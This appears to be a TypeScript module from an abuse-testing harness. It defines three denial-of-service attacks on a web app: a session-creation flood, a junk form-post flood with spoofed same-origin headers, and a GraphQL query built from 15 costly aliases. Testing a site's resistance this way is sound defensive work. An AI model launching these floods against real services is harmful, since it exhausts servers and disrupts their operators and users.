import type { Attack } from '../attack.ts'

const connections = 40
const junkFields = 48
/** The longest form is 48 KiB. */
const junkBytes = 960

/** What makes the session store hold more (row 4 of the abuses), and GraphQL answer more (row 5). */
export const sessionAttacks: readonly Attack[] = [
  {
    name: 'ever new sessions',
    run: ({ flood }) => flood(connections, () => ({ path: '/api/session', headers: { 'x-bc-region': 'us' } })),
  },
  {
    name: 'forms of junk',
    run({ flood, target }) {
      const junk = Array.from({ length: junkFields }, (_, index) => [`junk${index}`, 'x'.repeat(junkBytes)])
      const body = new URLSearchParams(junk).toString()
      const headers = {
        origin: target.site,
        'sec-fetch-site': 'same-origin',
        'content-type': 'application/x-www-form-urlencoded',
      }
      return flood(connections, () => ({ path: '/api/forms/en-us/account/create', method: 'POST', headers, body }))
    },
  },
  {
    name: 'GraphQL, 15 aliases of 24 products',
    run({ flood, target }) {
      const headers = {
        origin: target.site,
        'sec-fetch-site': 'same-origin',
        'content-type': 'application/json',
        'x-bc-region': 'us',
      }
      const body = JSON.stringify({ query: expensiveQuery, variables: { ids: target.productIds.slice(0, 24) } })
      return flood(4, () => ({ path: '/api/graphql', method: 'POST', headers, body }))
    },
  },
]

const aliases = Array.from(
  { length: 15 },
  (_, index) => `a${index}: relatedProducts(ids: $ids, locale: "en-us", bcRegion: "us", size: 24) { ...all }`,
)
const expensiveQuery = /* GraphQL */ `
  query ($ids: [Int!]) { ${aliases.join(' ')} }
  fragment all on RelatedProduct {
    uid title display_title tagline description url
    bcProduct { id name sku calculatedPrice { value currencyCode } product_options { id displayName } variants { id sku } }
  }
`
